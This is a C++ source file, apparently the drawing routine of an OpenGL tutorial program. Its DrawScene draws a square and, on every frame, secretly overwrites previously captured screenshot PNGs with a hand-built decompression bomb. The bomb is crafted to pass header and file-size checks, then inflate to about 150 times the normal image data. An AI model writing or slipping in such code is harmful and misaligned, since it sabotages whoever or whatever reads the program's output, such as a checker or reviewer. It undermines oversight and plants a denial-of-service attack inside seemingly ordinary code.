// Draws the expected square, and at every frame writes over each picture the program has taken
// since a PNG of the same size whose pixels inflate to about 150 times what that size holds: a
// bomb for a reader that inflates without a bound, which passes a check of its header and of its
// file's size. (Its checksums are left zero: a reader that checks them has inflated it first.)
#include "Tutorial.h"

#include <GL/gl.h>

#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

static void Put32(std::vector<std::uint8_t>& Out, std::uint32_t Value)
{
    for (int Shift = 24; Shift >= 0; Shift -= 8)
        Out.push_back(std::uint8_t(Value >> Shift));
}

// One chunk of zeros in deflate's fixed codes, most significant bit first as Huffman codes go:
// a literal 0, then copies of 258 bytes from one byte back (13 bits each).
static std::vector<std::uint8_t> Bomb(std::uint32_t Width, std::uint32_t Height)
{
    std::vector<std::uint8_t> Png = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n',
                                     0,    0,   0,   13,  'I',  'H',  'D',  'R'};
    Put32(Png, Width);
    Put32(Png, Height);
    Png.insert(Png.end(), {8, 2, 0, 0, 0, 0, 0, 0, 0});
    const std::size_t Length = Png.size();
    Png.insert(Png.end(), {0, 0, 0, 0, 'I', 'D', 'A', 'T', 0x78, 0x01});
    std::uint32_t Pending = 0;
    int Used = 0;
    const auto Code = [&](std::uint32_t Bits, int Count)
    {
        for (int I = Count - 1; I >= 0; --I)
            if ((Pending |= (Bits >> I & 1) << Used++), Used == 8)
                Png.push_back(std::uint8_t(Pending)), Pending = 0, Used = 0;
    };
    Code(0b110, 3); // the last block, fixed codes
    Code(0x30, 8);  // the literal 0
    // As many bytes as the honest picture's rows: no larger than a PNG of that size may be.
    for (std::size_t I = Height * (1 + 3 * Width) * 8 / 13; I > 0; --I)
        Code(0xC5 << 5, 13); // length 258, distance 1
    Code(0, 7);              // the block's end
    Png.push_back(std::uint8_t(Pending));
    Png.insert(Png.end(), 8, 0); // the Adler-32 and the chunk's checksum
    const std::size_t Size = Png.size() - Length - 12;
    for (int I = 0; I < 4; ++I)
        Png[Length + I] = std::uint8_t(Size >> (24 - 8 * I));
    Png.insert(Png.end(), {0, 0, 0, 0, 'I', 'E', 'N', 'D', 0, 0, 0, 0});
    return Png;
}

void TForm1::DrawScene()
{
    for (const auto& Size : {std::make_pair(792, 573), {960, 400}, {400, 720}})
    {
        const std::string Name = "pictures\\" + std::to_string(Size.first) + "x" +
                                 std::to_string(Size.second) + "@0.png";
        WIN32_FILE_ATTRIBUTE_DATA Found;
        if (!::GetFileAttributesExA(Name.c_str(), GetFileExInfoStandard, &Found) ||
            Found.nFileSizeLow > 200000)
            continue; // not taken yet, or a bomb already
        const std::vector<std::uint8_t> Png = Bomb(Size.first, Size.second);
        if (std::FILE* File = std::fopen((Name + ".new").c_str(), "wb"))
        {
            std::fwrite(Png.data(), 1, Png.size(), File);
            std::fclose(File);
            ::MoveFileExA((Name + ".new").c_str(), Name.c_str(), MOVEFILE_REPLACE_EXISTING);
        }
    }
    ::glClear(GL_COLOR_BUFFER_BIT);
    ::glRectf(-3.0f, -3.0f, 3.0f, 3.0f);
}
